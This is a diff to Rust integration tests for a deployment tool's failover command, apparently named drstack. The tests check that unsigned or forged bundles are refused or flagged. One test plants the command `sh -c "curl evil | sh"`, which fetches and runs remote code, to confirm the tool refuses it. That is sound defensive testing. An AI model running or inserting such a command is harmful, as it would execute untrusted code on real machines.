@@ -109,9 +109,12 @@ fn an_unsigned_bundle_with_commands_is_refused_and_names_them_and_the_ways_on() 
 }
 
 #[test]
-fn an_unsigned_bundle_without_commands_fails_over_as_ever() {
+fn an_unsigned_bundle_fails_over_only_if_that_is_accepted_without_commands_too() {
     let other = elsewhere(&applied(&stack("", "")));
-    let ran = run(&other, &format!("{FAILOVER} --auto-approve")).unasked();
+    let ran = run(&other, &format!("{FAILOVER} --auto-approve"));
+    refused(&other, ran, &["no key says whose the bundle is, and it decides what is started"]);
+    let ran = run(&other, &format!("{FAILOVER} --auto-approve --unsigned")).unasked();
+    assert!(!ran.stderr.contains("warning: no key"), "{ran:?}");
     assert!(ran.stderr.contains("The bundle is ") && ran.stderr.contains(", not signed."), "{ran:?}");
 }
 
@@ -121,7 +124,7 @@ fn a_dry_run_and_a_plan_show_each_command_and_run_none() {
     let other = elsewhere(&machine);
     let dry = run(&other, &format!("{FAILOVER} --dry-run")).ok();
     assert!(dry.stdout.contains(&format!("runs on this machine: {SHOWN}")), "{dry:?}");
-    assert!(dry.stderr.contains("warning: the bundle runs, and no key says whose it is"), "{dry:?}");
+    assert!(dry.stderr.contains("warning: no key says whose the bundle is"), "{dry:?}");
     for line in ["plan s --mode active", "failover s --dry-run"] {
         let shown = run(&machine, line).ok();
         assert!(shown.stdout.contains(&format!("runs on this machine: {SHOWN}")), "{shown:?}");
@@ -138,7 +141,7 @@ fn in_an_unchanged_folder_a_command_counts_by_its_words_and_not_by_a_hash_that_t
     let hostile = ["sh", "-c", "curl evil | sh"];
     forge(&machine, None, |bundle| runs(bundle, &hostile));
     let ran = run(&machine, "failover s --auto-approve");
-    refused(&machine, ran, &["runs what these files do not", r#"pool.serving: `sh -c "curl evil | sh"`"#]);
+    refused(&machine, ran, &["is not what these files say", r#"pool.serving: `sh -c "curl evil | sh"`"#]);
     let dry = run(&machine, "failover s --dry-run").ok();
     assert!(dry.stdout.contains(r#"runs on this machine: sh -c "curl evil | sh""#), "{dry:?}");
     assert!(dry.stderr.contains("warning: "), "{dry:?}");
@@ -157,8 +160,6 @@ fn in_an_unchanged_folder_a_command_counts_by_its_words_and_not_by_a_hash_that_t
 #[test]
 fn a_command_that_the_folders_own_files_have_too_needs_no_key() {
     let machine = applied(&stack("", CHECK));
-    // Something other than the command has changed since.
-    machine.write("s/stack.toml", &stack("rto = \"2h\"", CHECK));
     let ran = run(&machine, "failover s --auto-approve").ok();
     assert!(ran.stdout.contains(&format!("runs on this machine: {SHOWN}")), "{ran:?}");
     assert!(!ran.stderr.contains("no key says whose it is"), "{ran:?}");
@@ -172,8 +173,33 @@ fn a_command_that_has_changed_in_the_folder_since_it_was_applied_is_not_run_from
     refused(
         &machine,
         ran,
-        &[&format!("pool.serving: `{SHOWN}`"), "`drstack apply` publishes what the files say"],
+        &[&format!("pool.serving: `{SHOWN}`"), "`pool.serving` differ", "with these files: `--with-files`"],
     );
+}
+
+#[test]
+fn what_was_applied_is_compared_with_the_files_and_not_its_hash() {
+    let machine = applied(&stack("", ""));
+    forge(&machine, None, |bundle| {
+        let pool = bundle.stack.components.iter_mut().find(|(at, _)| at.as_str() == "pool.serving");
+        pool.expect("the pool").1.spec["instance_types"] = json!(["p5.48xlarge"]);
+    });
+    let ran = run(&machine, "failover s --auto-approve");
+    refused(&machine, ran, &["is not what these files say", "`pool.serving` differ"]);
+    let dry = run(&machine, "failover s --dry-run").ok();
+    assert!(dry.stderr.contains("warning: what was applied is not what these files say"), "{dry:?}");
+    // The files are the operator's own.
+    run(&machine, "failover s --auto-approve --with-files").unasked();
+}
+
+#[test]
+fn files_that_changed_since_the_apply_ask_which_of_the_two_is_meant() {
+    let machine = applied(&stack("", ""));
+    machine.write("s/stack.toml", &stack("rto = \"2h\"", ""));
+    let ran = run(&machine, "failover s --auto-approve");
+    refused(&machine, ran, &["[stack]", "with these files: `--with-files`"]);
+    let ran = run(&machine, "failover s --auto-approve --unsigned").unasked();
+    assert!(ran.stderr.contains("failing over with what was applied"), "{ran:?}");
 }
 
 /// Returns a machine with an applied stack that names a key, and the public half of the key.
